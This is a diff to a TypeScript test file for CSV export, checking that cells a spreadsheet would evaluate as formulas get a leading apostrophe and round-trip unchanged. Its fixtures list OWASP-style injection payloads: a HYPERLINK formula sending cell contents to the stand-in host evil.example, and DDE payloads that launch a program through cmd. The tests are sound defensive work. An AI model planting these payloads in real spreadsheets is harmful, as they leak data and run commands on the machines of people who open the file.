@@ -9,7 +9,14 @@ import { collectingSink, inPieces } from '../fixtures/tabular/collecting-sink';
 import { ROUND_TRIP_META } from '../fixtures/tabular/round-trip-entries';
 
 // What OWASP lists as the start of a cell that Excel, LibreOffice or Google Sheets evaluates.
-const FORMULA_PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const FORMULA_PAYLOADS = [
+	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+	"+cmd|' /C calc'!A0",
+	'-2+3',
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	'\t=1+1',
+	'\r=1+1'
+];
 
 describe('CSV cells a spreadsheet would take for formulas', () => {
 	it('get a leading apostrophe, and no other text changes', () => {
@@ -30,12 +37,20 @@ describe('CSV cells a spreadsheet would take for formulas', () => {
 		const roundTrip = (text: string) => {
 			expect(unguardFormula(guardFormula(text))).toBe(text);
 		};
-		fc.assert(fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', 'é') }), roundTrip));
+		fc.assert(
+			fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', 'é') }), roundTrip)
+		);
 		fc.assert(fc.property(fc.string(), roundTrip));
 	});
 
 	it('a whole file has a byte order mark, CRLF after every record, and numbers as they are', () => {
-		const text = csvDocument(['Name', 'Score'], [['=1+1', -0.5], ['two\nlines', null]]);
+		const text = csvDocument(
+			['Name', 'Score'],
+			[
+				['=1+1', -0.5],
+				['two\nlines', null]
+			]
+		);
 		expect(text).toBe('\uFEFFName,Score\r\n\'=1+1,-0.5\r\n"two\nlines",\r\n');
 	});
 });
@@ -45,7 +60,13 @@ describe('a national list with formula-like texts', () => {
 		entryId: 7,
 		content: {
 			languageVersions: FORMULA_PAYLOADS.slice(0, 4).map((payload, index) =>
-				languageVersion({ language: ['de', 'en', 'fr', 'ru'][index]!, isOriginal: index === 0, term: payload, definition: `${payload} (definition)`, note: "'=already quoted" })
+				languageVersion({
+					language: ['de', 'en', 'fr', 'ru'][index]!,
+					isOriginal: index === 0,
+					term: payload,
+					definition: `${payload} (definition)`,
+					note: "'=already quoted"
+				})
 			),
 			sourceAct: '=HYPERLINK("http://evil.example")',
 			sourceArticle: '@A1',
